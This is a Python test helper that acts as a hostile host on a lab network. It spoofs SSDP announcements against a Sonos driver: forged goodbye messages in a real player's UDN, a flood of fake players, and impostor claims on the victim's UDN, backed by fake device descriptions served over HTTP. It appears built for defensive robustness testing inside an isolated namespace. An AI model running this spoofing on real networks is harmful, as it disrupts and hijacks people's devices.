#!/usr/bin/env python3
"""A hostile host on the lab LAN that plays tricks on a Sonos driver with SSDP announcements only:
goodbyes in a real player's name (a prefix of its UDN, then its exact UDN), a flood of players that
do not exist, and the real player's UDN claimed from this host's address. Every description it
names is served by this host. Runs inside a lab network namespace only (multicast stays there).

usage: ssdp_impostor.py ADDRESS HTTP_PORT VICTIM_UDN HOUSEHOLD FLOOD_COUNT
Prints one line per step sent and per description fetched (the test reads them)."""
import http.server
import socket
import sys
import threading
import time

addr, http_port, victim, household, flood = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5])
GROUP = ("239.255.255.250", 1900)
ZP = "urn:schemas-upnp-org:device:ZonePlayer:1"
MR = "urn:schemas-upnp-org:device:MediaRenderer:1"


def description(udn, name):
    # A plain renderer with an AVTransport: enough for the driver to take it as a speaker.
    return ('<?xml version="1.0"?><root xmlns="urn:schemas-upnp-org:device-1-0"><device>'
            '<deviceType>%s</deviceType><friendlyName>%s</friendlyName><modelName>impostor</modelName>'
            '<UDN>uuid:%s</UDN><serviceList><service><serviceType>urn:schemas-upnp-org:service:AVTransport:1</serviceType>'
            '<serviceId>urn:upnp-org:serviceId:AVTransport</serviceId><controlURL>/avt/control</controlURL>'
            '<eventSubURL>/avt/event</eventSubURL><SCPDURL>/avt.xml</SCPDURL></service></serviceList></device></root>'
            % (MR, name, udn)).encode()


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        # /d/<udn>/<name>.xml
        parts = self.path.split("/")
        print("GET %s" % self.path, flush=True)
        if len(parts) != 4 or parts[1] != "d":
            self.send_response(404)
            self.end_headers()
            return
        body = description(parts[2], parts[3][:-4])
        self.send_response(200)
        self.send_header("Content-Type", 'text/xml; charset="utf-8"')
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.send_response(500)
        self.end_headers()

    def log_message(self, *args):
        pass


server = http.server.ThreadingHTTPServer((addr, http_port), Handler)
threading.Thread(target=server.serve_forever, daemon=True).start()

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(addr))
sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
sock.bind((addr, 0))


def send(nt, nts, udn, location=None, household=None):
    lines = ["NOTIFY * HTTP/1.1", "HOST: 239.255.255.250:1900", "NT: %s" % nt, "NTS: %s" % nts,
             "USN: uuid:%s::%s" % (udn, nt), "CACHE-CONTROL: max-age=1800", "SERVER: Linux UPnP/1.0 Sonos/80.1-55240 (ZPS38)"]
    if location:
        lines.append("LOCATION: %s" % location)
    if household:
        lines.append("X-RINCON-HOUSEHOLD: %s" % household)
    sock.sendto(("\r\n".join(lines) + "\r\n\r\n").encode(), GROUP)


def location(udn, name):
    return "http://%s:%d/d/%s/%s.xml" % (addr, http_port, udn, name)


time.sleep(0.3)
# 1. Goodbyes in the victim's name: a prefix of its UDN, then its exact UDN from the wrong address.
send(ZP, "ssdp:byebye", victim[:8], household=household)
send(ZP, "ssdp:byebye", victim, household=household)
print("sent byebye", flush=True)
# 2. A flood of players that do not exist, in the victim's household.
for i in range(flood):
    udn = "RINCON_F100D%07d01400" % i
    send(ZP, "ssdp:alive", udn, location(udn, "Fake%d" % i), household)
    time.sleep(0.002)
print("sent flood", flush=True)
# 3. The victim's UDN claimed from this address: by a renderer announcement without a household,
#    and by another household.
send(MR, "ssdp:alive", victim, location(victim, "Impostor"))
send(ZP, "ssdp:alive", victim, location(victim, "Impostor2"), "Sonos_Impostor")
print("sent claim", flush=True)
while True:
    time.sleep(60)
